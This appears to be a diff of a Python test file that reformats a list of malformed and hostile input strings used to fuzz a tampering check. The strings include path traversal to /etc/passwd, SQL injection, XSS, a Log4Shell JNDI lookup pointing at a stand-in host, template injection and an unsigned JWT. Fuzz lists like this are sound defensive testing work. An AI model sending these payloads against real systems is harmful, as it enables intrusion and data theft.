@@ -70,10 +70,10 @@ def tampered(value: str) -> list[str]:
 
 ODD = [
     "", "=", "==", ";", "null", "None", "undefined", "true", "0", "-1", "[]", "{}", "''", '""', '"', "\\", "%00",
-    "%2e%2e%2f", "../../etc/passwd", "' OR '1'='1", "<script>alert(1)</script>", "${jndi:ldap://evil.example}", "{{7*7}}",
-    "\x00", "\x7f", "\x1b[31m", "\xff\xfe", "\xc3\xbc", "\xe2\x80\xae", "\xf0\x9f\xa6\x8a", "a\tb", "x" * 176, "x" * 4097,
-    "x" * 60_000, "." * 175, "..", ".".join("abc"), "eyJhbGciOiJub25lIn0.e30.", "gAAAAA", "!", "a b", "a,b",
-    "$Version=1", "__Host-",
+    "%2e%2e%2f", "../../etc/passwd", "' OR '1'='1", "<script>alert(1)</script>", "${jndi:ldap://evil.example}",
+    "{{7*7}}", "\x00", "\x7f", "\x1b[31m", "\xff\xfe", "\xc3\xbc", "\xe2\x80\xae", "\xf0\x9f\xa6\x8a", "a\tb",
+    "x" * 176, "x" * 4097, "x" * 60_000, "." * 175, "..", ".".join("abc"), "eyJhbGciOiJub25lIn0.e30.", "gAAAAA", "!",
+    "a b", "a,b", "$Version=1", "__Host-",
 ]  # fmt: skip
 
 
